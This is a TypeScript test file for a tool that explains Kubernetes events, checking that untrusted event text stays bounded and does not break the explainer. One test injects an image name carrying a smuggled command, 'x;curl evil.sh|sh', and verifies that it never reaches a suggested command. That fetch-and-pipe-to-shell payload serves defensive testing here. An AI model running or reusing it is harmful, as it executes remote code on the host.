import * as assert from 'node:assert/strict';
import { explain } from '../../../src/core/explain/explain';
import { parseSchedulerMessage } from '../../../src/core/explain/schedulerMessage';
import { Builder, clip } from '../../../src/core/explain/text';
import { LIMITS } from '../../../src/core/explain/types';
import { cacheOf, ev, node, NOW, pod } from './builders';

describe('explain bounds (event text is untrusted)', () => {
  it('parses at most LIMITS.schedulerReasons reasons and says it truncated', () => {
    const reasons = Array.from(
      { length: 100 },
      (_, i) => `1 reason number ${String(i).padStart(3, '0')}`,
    ).join(', ');
    const m = parseSchedulerMessage(`0/100 nodes are available: ${reasons}.`);
    assert.equal(m.reasons.length, LIMITS.schedulerReasons);
    assert.equal(m.truncated, true);
  });

  it('reads at most LIMITS.messageChars of a message', () => {
    const huge = `0/3 nodes are available: 3 Insufficient cpu${'x'.repeat(1_000_000)}.`;
    const m = parseSchedulerMessage(huge);
    assert.equal(m.truncated, true);
    assert.ok(m.reasons.every((r) => r.text.length <= LIMITS.messageChars));
  });

  it('caps evidence at LIMITS.evidence and clips lines at LIMITS.lineChars', () => {
    const b = new Builder('X');
    for (let i = 0; i < 100; i++) b.fact(`${i} `.padEnd(5000, 'y')); // distinct: equal facts are kept once
    const x = b.build('z'.repeat(5000));
    assert.equal(x.evidence.length, LIMITS.evidence);
    assert.ok(x.evidence.every((e) => e.text.length === LIMITS.lineChars));
    assert.equal(x.cause.length, LIMITS.lineChars);
    assert.equal(clip('a\nb\tc'), 'a b c');
  });

  it('a hostile FailedScheduling message yields a bounded explanation', () => {
    const reasons = Array.from({ length: 500 }, (_, i) => `1 node(s) had untolerated taint {k${i}: v}`).join(
      ', ',
    );
    const cache = cacheOf({ Node: [node('n1')], Pod: [pod('a', 'p')] });
    const x = explain(
      ev('FailedScheduling', `0/500 nodes are available: ${reasons}.`, {
        kind: 'Pod',
        namespace: 'a',
        name: 'p',
      }),
      cache,
      NOW,
    );
    assert.ok(x.evidence.length <= LIMITS.evidence + 1);
    assert.ok(x.cause.length <= LIMITS.lineChars);
    assert.equal(x.confidence, 'partial');
  });

  it('never throws on malformed events and objects', () => {
    const cache = cacheOf({
      Node: [{ metadata: {}, spec: 'x', status: { allocatable: 7 } } as never],
      Pod: [{ metadata: { name: 'p', namespace: 'a' }, spec: { containers: 'no' } } as never],
    });
    const bad = { type: 7, reason: null, message: undefined, count: NaN, involved: null } as never;
    assert.doesNotThrow(() => explain(bad, cache, NOW));
    for (const reason of [
      'FailedScheduling',
      'Failed',
      'BackOff',
      'Unhealthy',
      'FailedMount',
      'FailedCreate',
      'Evicted',
      'NodeNotReady',
      'BackoffLimitExceeded',
      'FailedGetResourceMetric',
      'OOMKilling',
    ]) {
      const x = explain(
        ev(reason, '0/1 nodes are available: 1 Insufficient cpu.', {
          kind: 'Pod',
          namespace: 'a',
          name: 'p',
        }),
        cache,
        NOW,
      );
      assert.equal(x.reason, reason);
    }
  });

  it('never suggests a command line holding shell metacharacters from event text', () => {
    const cache = cacheOf({ Pod: [pod('a', 'p', { node: 'n1' })] });
    const at = { kind: 'Pod', namespace: 'a', name: 'p' };
    const ok = explain(ev('Failed', 'Failed to pull image "nginx:9": rpc error: not found', at), cache, NOW);
    assert.ok(ok.nextSteps.some((s) => s.kubectl === 'docker manifest inspect nginx:9'));
    const bad = explain(
      ev('Failed', 'Failed to pull image "x;curl evil.sh|sh": rpc error: not found', at),
      cache,
      NOW,
    );
    assert.match(bad.cause, /x;curl evil\.sh\|sh/);
    for (const s of bad.nextSteps) assert.doesNotMatch(s.kubectl ?? '', /[;|$`]/);
    assert.ok(!bad.nextSteps.some((s) => (s.kubectl ?? '').startsWith('docker')));
  });
});
